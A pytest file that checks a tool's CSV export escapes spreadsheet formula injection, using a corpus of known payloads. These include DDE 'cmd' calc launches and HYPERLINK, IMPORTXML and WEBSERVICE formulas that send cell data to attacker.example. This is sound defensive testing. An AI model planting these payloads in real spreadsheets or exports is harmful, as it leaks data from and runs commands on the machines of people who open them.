"""No formula in any CSV we write (issue 33): the one helper (probes/files/spreadsheet.py) over a
corpus of what spreadsheets run, the numbers it must leave numbers, and `python -m probes report
--format csv` on a store whose model names, benchmark ids and groups start with each formula
character, read back with csv.reader."""

from __future__ import annotations

import csv
import io
import math
import os
import subprocess
import sys

import pytest

from probes.core.types import Result, Status
from probes.files.spreadsheet import csv_text, inert, runs_as_formula
from probes.running.store import Store
from tests.conftest import KEY_VARIABLES, REPO

LEAK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the answer")'
STARTS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")

# What spreadsheets run, as OWASP's CSV injection page and published advisories wrote them, and
# the same behind white space, in full-width and small forms, and over several lines.
DANGEROUS = [
    LEAK,
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!'B1'",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMAGE("http://attacker.example/pixel.png")',
    '=WEBSERVICE("http://attacker.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "@A1",
    "-1+2",
    "-3+A1",
    "+A1",
    "-",
    "=",
    "@",
    " =1+1",
    "   -2+3",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\n=1+1",
    "\t=1+1",
    "\tYes",
    "\rYes",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    ' ＝HYPERLINK("http://attacker.example")',
    "-3 apples",
    " -3",
    "－3",
    "-３",
    "-0x10",
    "--3",
    "- A) because the fins point inwards",
    "+inf",
    "-inf",
    "-nan",
]
# Never run: ordinary replies and names, and plain numbers as text (see `inert`'s docstring).
HARMLESS = ["Yes", "No", "A", "b) the left one", "3", "0.25", "", "It's 3", "A1", "a = b", "x-1", "'=1", "e=mc2"]
PLAIN_NUMBERS = ["-3", "+3", "-0.5", "+0.25", "-1e-3", "-1E+05", "-.25", "-3.", "0", "-0"]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def escaped_or_harmless(cell: str) -> bool:
    """A cell as a spreadsheet gets it: escaped (a quote first), or not starting with a
    formula character unless it is a plain number."""
    if cell.startswith("'"):
        return True
    if cell.lstrip().startswith(FORMULA_CHARACTERS) or cell.startswith(("\t", "\r")):
        try:
            float(cell)
        except ValueError:
            return False
        return cell.strip() == cell and math.isfinite(float(cell))
    return True


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_formula_of_the_corpus_is_escaped_with_a_quote_and_nothing_else(text):
    assert runs_as_formula(text)
    assert inert(text) == "'" + text


@pytest.mark.parametrize("start", STARTS)
def test_each_formula_start_is_escaped_alone_and_before_any_text(start):
    texts = [start, start + "cmd", start + "SUM(A1:A9)"]
    if start not in ("\t", "\r"):  # these two count first only: behind a space they are white space
        texts.append("  " + start + "SUM(A1:A9)")
    for text in texts:
        assert inert(text) == "'" + text, repr(text)


@pytest.mark.parametrize("text", HARMLESS + PLAIN_NUMBERS)
def test_ordinary_text_and_plain_numbers_are_written_as_they_are(text):
    assert not runs_as_formula(text)
    assert inert(text) == text


def test_numbers_stay_numbers_and_empty_cells_stay_empty():
    for value in (-0.5, -3, 0, 1.25, -1e-9, True, False, float("-inf")):
        assert inert(value) is value
    assert inert(None) is None


def test_anything_else_is_checked_as_the_text_it_is_written_as():
    class Named:
        def __str__(self) -> str:
            return "=1+1"

    assert inert(Named()) == "'=1+1"
    assert inert(Status.ANSWERED) is Status.ANSWERED


def test_a_whole_table_reads_back_escaped_with_its_numbers_numeric_and_its_lines_kept():
    hostile = DANGEROUS + ["Yes\r=1+1", "Yes\n=1+1", 'say "=1+1", then', "a,=1+1"]
    rows = [
        {"reply": text, "model": text, "score": -0.5 * i, "count": -i, "typed": "-3"} for i, text in enumerate(hostile)
    ]
    text = csv_text(["model", "reply", "score", "count", "typed"], rows)
    read = read_back(text)
    assert read[0] == ["model", "reply", "score", "count", "typed"]
    assert len(read) == len(hostile) + 1  # a line break inside a cell never starts a row
    for (model, reply, score, count, typed), original in zip(read[1:], hostile, strict=True):
        assert escaped_or_harmless(model) and escaped_or_harmless(reply), (model, reply)
        assert reply == inert(original) and reply.removeprefix("'") == original  # the text itself is kept whole
        float(score), int(count), float(typed)  # numeric columns stay numbers
    # A lone carriage return in a cell is quoted: a spreadsheet reading it as a line break would
    # otherwise start a new row whose first cell no check had seen.
    assert '"Yes\r=1+1"' in text and '"Yes\n=1+1"' in text


def test_the_header_is_checked_too_and_a_row_with_an_unknown_column_is_refused():
    assert read_back(csv_text(["=evil", "fine"], []))[0] == ["'=evil", "fine"]
    with pytest.raises(ValueError, match="not columns: extra"):
        csv_text(["a"], [{"a": 1, "extra": 2}])
    assert read_back(csv_text(["a", "b"], [{"a": 1}]))[1] == ["1", ""]


# --- the command line ------------------------------------------------------------------------


def hostile_store(path) -> None:
    """Results under model names, benchmark ids and group values that start with each formula
    character, and two models to compare on shared items, one well ahead of the other."""
    entries = []
    for number, start in enumerate(STARTS):
        for item in range(4):
            entries.append(Result(f"{start}bench{number}", f"i{item}", f"{start}model{number}", "0-shot", "none",
                                  Status.ANSWERED, reply=f"{start}reply", parsed="yes", correct=item % 2 == 0,
                                  score=float(item % 2 == 0), target="yes", latency=0.5,
                                  groups={"kind": f"{start}group"}))  # fmt: skip
    for item in range(20):
        for model, right in (("=ahead/x", item < 18), ("@behind/x", item < 4)):
            entries.append(Result("=shared", f"s{item}", model, "0-shot", "none", Status.ANSWERED, reply="yes",
                                  parsed="yes", correct=right, score=float(right), target="yes", latency=0.5))  # fmt: skip
    with Store(path) as store:
        store.record_many([(result, None, "") for result in entries])


def report_csv(path, *args: str) -> list[dict[str, str]]:
    # As bytes: run_cli reads text with universal newlines, which would make a quoted "\r" "\n".
    environment = {k: v for k, v in os.environ.items() if k not in KEY_VARIABLES} | {"PYTHONPATH": str(REPO)}
    done = subprocess.run([sys.executable, "-m", "probes", "report", "--store", str(path), "--format", "csv", *args],
                          cwd=REPO, env=environment, capture_output=True, timeout=120)  # fmt: skip
    assert done.returncode == 0, done.stderr
    table = read_back(done.stdout.decode("utf-8"))
    for row in table:
        for cell in row:
            assert escaped_or_harmless(cell), (cell, row)
    return [dict(zip(table[0], row, strict=True)) for row in table[1:]]


def test_report_as_csv_escapes_names_and_groups_and_keeps_its_numbers_numeric(tmp_path):
    path = tmp_path / "hostile.sqlite"
    hostile_store(path)
    rows = report_csv(path, "--by", "kind")
    models = {row["model"] for row in rows}
    for number, start in enumerate(STARTS):
        assert "'" + f"{start}model{number}" in models
    assert any(row["group"] == "kind=" + "-group" for row in rows)  # a group is named first: nothing to escape
    for row in rows:
        for column in ("n", "correct", "accuracy", "ci_low", "ci_high", "mean_latency"):
            float(row[column])
    # The paired view: B far behind A, so the difference and its interval are negative numbers.
    [compared] = report_csv(path, "--compare", "@behind/x", "=ahead/x")
    assert (compared["benchmark"], compared["a"], compared["b"]) == ("'=shared", "'@behind/x", "'=ahead/x")
    assert float(compared["diff"]) == pytest.approx(-70.0) and float(compared["diff_high"]) < 0
    assert compared["diff"].startswith("-")  # a number, written as one
